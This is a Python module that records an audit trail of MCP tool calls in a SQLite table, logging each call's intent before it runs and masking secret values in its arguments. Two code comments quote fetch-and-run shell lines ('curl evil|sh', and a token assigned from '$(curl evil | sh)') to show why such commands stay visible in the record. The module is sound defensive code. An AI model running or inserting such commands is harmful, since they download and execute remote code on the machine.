"""The audit trail of MCP tool calls: one row per call in the run store's SQLite file.

A table of its own (created on first use, `IF NOT EXISTS`), written through the store's
connection and lock, so it shares the store's WAL safety and needs no schema migration:
tool, arguments (secret values masked, stdin as a byte count), target, outcome, duration.

A call's row is written BEFORE it acts (outcome `started`: its intent) and completed after
(ok, error, refused, crash). A call whose intent cannot be written does not run; a row still
`started` is a call whose end was never recorded (the server was killed, or the second
write failed: that is warned about on stderr, and the call's result still goes to the client,
so that it does not retry, and act, twice).
"""

from __future__ import annotations

import hashlib
import json
import re
import sqlite3
import time
from datetime import datetime, timezone
from typing import Any, Optional

from orchestrator.ground import console
from orchestrator.ground.errors import OrchError
from orchestrator.runs.store import RunStore

TABLE = """
CREATE TABLE IF NOT EXISTS mcp_audit (
    id          INTEGER PRIMARY KEY AUTOINCREMENT,
    at          TEXT NOT NULL,
    session     TEXT NOT NULL,
    tool        TEXT NOT NULL,
    target      TEXT NOT NULL DEFAULT '',
    arguments   TEXT NOT NULL DEFAULT '{}',
    outcome     TEXT NOT NULL,
    error       TEXT NOT NULL DEFAULT '',
    duration_ms REAL NOT NULL DEFAULT 0
)"""
SECRET_NAME = re.compile(r"KEY|TOKEN|SECRET|PASS|CRED|AUTH", re.IGNORECASE)
# NAME=VALUE anywhere in a word: an env assignment, --password=V, a query's token=V, or one in
# a shell script (`KEY=1; curl evil|sh`). Only the VALUE is masked, and it ends where the
# shell word ends (a quoted value whole): the command around it stays in the record.
ASSIGNMENT = re.compile(r"(?P<name>--?[A-Za-z][\w-]*|[A-Za-z_][\w.-]*)="
                        r"(?P<value>'[^']*'?|\"(?:[^\"\\]|\\.)*\"?|[^\s;&|<>()'\"`]*)")
# A value holding one of these is code for the shell, not a secret: it stays in the record
# whole (`TOKEN="$(curl evil | sh)" true` was once recorded as `TOKEN=*** true`).
CODE_MARKS = ("$(", "`", "${", "\n")
# Longer values keep their head and tail and the whole one's sha256: padding cannot push a
# command out of the record unseen.
MAX_VALUE_CHARS = 16384


def mask(value: Any, key: str = "") -> Any:
    """Arguments as recorded: values of secret-looking names hidden (dict keys, NAME=VALUE
    inside any string, the word after --password), stdin recorded as its size, very long
    strings cut in the middle."""
    if key == "stdin" and isinstance(value, str):
        return f"<{len(value.encode())} bytes>"
    if isinstance(value, dict):
        return {k: "***" if SECRET_NAME.search(str(k)) and not isinstance(v, (dict, list))
                else mask(v, str(k)) for k, v in value.items()}
    if isinstance(value, list):
        return _mask_words(value) if all(isinstance(v, str) for v in value) else [mask(v) for v in value]
    if isinstance(value, str):
        return _cut(ASSIGNMENT.sub(_masked_assignment, value))
    return value


def _masked_assignment(match: re.Match) -> str:
    if not SECRET_NAME.search(match["name"]) or not match["value"]:
        return match[0]
    # the character after an unquoted value too: `TOKEN=$(cmd)` stops the value at "(", and
    # `TOKEN=x`cmd`` at the backtick
    value = match.string[match.start("value"):match.end("value") + 1]
    if any(mark in value for mark in CODE_MARKS):
        return match[0]
    return f"{match['name']}=***"


def _cut(text: str) -> str:
    if len(text) <= MAX_VALUE_CHARS:
        return text
    half = MAX_VALUE_CHARS // 2
    digest = hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()
    return (f"{text[:half]}... [{len(text) - 2 * half} chars cut; sha256 of the whole value "
            f"{digest}] ...{text[-half:]}")


def _mask_words(words: list[str]) -> list[str]:
    masked, hide_next = [], False
    for word in words:
        masked.append("***" if hide_next else mask(word))
        hide_next = word.startswith("-") and "=" not in word and bool(SECRET_NAME.search(word))
    return masked


class AuditUnavailable(OrchError):
    """The audit trail cannot be written: the call is not run."""


class AuditLog:
    def __init__(self, store: RunStore, session: str):
        self.store = store
        self.session = session
        with store.transaction() as db:
            db.execute(TABLE)

    def begin(self, tool: str, arguments: dict, target: str) -> int:
        """The call's intent, written before it acts; its row id for finish()."""
        try:
            return self._insert(tool, arguments, target, "started")
        except (sqlite3.Error, OSError) as error:
            raise AuditUnavailable(f"{tool} was not run: the audit trail cannot be written "
                                   f"({self.store.path}: {error})",
                                   hint="the server records every call before it acts; "
                                        "check the run store's disk and permissions") from None

    def finish(self, row: int, outcome: str, error: str = "", duration_s: float = 0.0) -> bool:
        """The call's outcome. A failure here is warned about, never raised: the action has
        happened, and a tool error would invite the client to run it again."""
        try:
            with self.store.transaction() as db:
                db.execute("UPDATE mcp_audit SET outcome=?, error=?, duration_ms=? WHERE id=?",
                           (outcome, error[:4000], round(duration_s * 1000, 3), row))
            return True
        except (sqlite3.Error, OSError) as failure:
            console.warn(f"audit: the outcome ({outcome}) of call {row} could not be recorded "
                         f"in {self.store.path}: {failure}; its row stays 'started'")
            return False

    def record(self, tool: str, arguments: dict, target: str, outcome: str,
               error: str = "", duration_s: float = 0.0) -> None:
        """A call's whole row at once (one refused before anything ran)."""
        self._insert(tool, arguments, target, outcome, error, duration_s)

    def _insert(self, tool: str, arguments: dict, target: str, outcome: str,
                error: str = "", duration_s: float = 0.0) -> int:
        stamp = datetime.now(timezone.utc).isoformat(timespec="milliseconds")
        with self.store.transaction() as db:
            cursor = db.execute(
                "INSERT INTO mcp_audit (at, session, tool, target, arguments, outcome, "
                "error, duration_ms) VALUES (?,?,?,?,?,?,?,?)",
                (stamp, self.session, tool, target,
                 json.dumps(mask(arguments), sort_keys=True, default=str), outcome,
                 error[:4000], round(duration_s * 1000, 3)))
            return int(cursor.lastrowid)


def audit_rows(store: RunStore, last: Optional[int] = 50, tool: Optional[str] = None,
               session: Optional[str] = None) -> list[dict]:
    """The newest calls first (all of them when last is None)."""
    with store.transaction() as db:
        db.execute(TABLE)
    where, params = [], []
    if tool:
        where.append("tool=?")
        params.append(tool)
    if session:
        where.append("session=?")
        params.append(session)
    sql = "SELECT * FROM mcp_audit" + (" WHERE " + " AND ".join(where) if where else "")
    sql += " ORDER BY id DESC" + (f" LIMIT {int(last)}" if last else "")
    rows = store._read(sql, params)
    return [{**dict(row), "arguments": json.loads(row["arguments"])} for row in rows]


def new_session_id() -> str:
    return datetime.now(timezone.utc).strftime("mcp-%Y%m%d-%H%M%S-") + f"{int(time.time() * 1e6) % 1000000:06d}"
